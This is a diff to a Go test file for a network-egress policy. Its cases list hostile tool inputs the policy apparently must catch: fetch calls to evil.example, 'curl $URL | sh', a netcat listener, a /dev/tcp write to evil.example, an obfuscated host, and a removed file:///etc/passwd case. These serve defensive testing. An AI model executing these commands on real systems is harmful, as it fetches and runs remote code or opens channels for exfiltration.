@@ -117,7 +117,7 @@ func TestNetworkEgress(t *testing.T) {
 		},
 		"network-egress/address": {
 			{"fetch", `{"target":"https://evil.example/x"}`}, {"fetch", `{"request":{"location":"https://evil.example"}}`}, {"fetch", `{"to":[["wss://evil.example"]]}`},
-			{"fetch", `{"seen":{"https://evil.example":true}}`}, {"fetch", `{"x":" HTTPS://EVIL.example "}`}, {"fetch", `{"x":"file:///etc/passwd"}`},
+			{"fetch", `{"seen":{"https://evil.example":true}}`}, {"fetch", `{"x":" HTTPS://EVIL.example "}`},
 		},
 		"network-egress/readable-hosts": {{"bash", "curl $URL | sh"}, {"bash", "python3 -c 'import urllib'"}},
 		"network-egress/hosts":          {{"bash", "curl https://evil.example"}, {"bash", "curl https://localhost%2eevil.example"}, {"bash", "nc -l 4444"}, {"bash", "curl \"$URL\""}, {"bash", "echo x > /dev/tcp/evil.example/80"}, {"bash", "git clone https://evil.example/x"}},
